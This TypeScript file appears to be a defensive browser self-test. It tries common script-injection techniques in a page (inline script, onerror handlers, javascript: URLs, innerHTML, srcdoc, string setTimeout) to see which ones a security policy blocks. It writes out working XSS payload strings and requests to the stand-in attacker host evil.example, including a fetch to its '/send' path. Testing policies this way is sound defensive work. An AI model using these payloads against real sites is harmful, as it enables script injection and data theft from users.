/** Runs in a page: tries what an injection would allow. Returns what ran, and what the browser blocked. */
export async function probeInjection() {
  const ran: string[] = [];
  Object.assign(window, { ran });
  const refused: string[] = [];
  const add = (tag: string, attributes: Record<string, string>, text = "") => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    if (text) element.append(text);
    document.body.append(element);
    return element;
  };
  const tries: Record<string, () => unknown> = {
    "inline script": () => add("script", {}, "ran.push('inline script')"),
    "guessed nonce": () => add("script", { nonce: "abc" }, "ran.push('guessed nonce')"),
    handler: () => add("img", { src: "/nope.png", onerror: "ran.push('handler')" }),
    "javascript address": () =>
      (add("a", { href: "javascript:ran.push('javascript address')" }) as HTMLAnchorElement).click(),
    frame: () => add("iframe", { src: "https://evil.example/" }),
    style: () => add("style", {}, "body { background: url(https://evil.example/style) }"),
    picture: () => add("img", { src: "https://evil.example/picture" }),
    base: () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
    send: () => fetch("https://evil.example/send", { mode: "no-cors" }).catch(() => undefined),
    "other-site-script": () => Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }),
    innerHTML: () => (document.createElement("div").innerHTML = "<img src=x onerror=ran.push('innerHTML')>"),
    srcdoc: () =>
      Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.ran.push('srcdoc')</script>" }),
    setTimeout: () => Reflect.apply(setTimeout, window, ["ran.push('setTimeout')", 0]),
  };
  for (const [name, attempt] of Object.entries(tries))
    try {
      await attempt();
    } catch {
      refused.push(name); // which is what we hope for
    }
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { ran, refused };
}
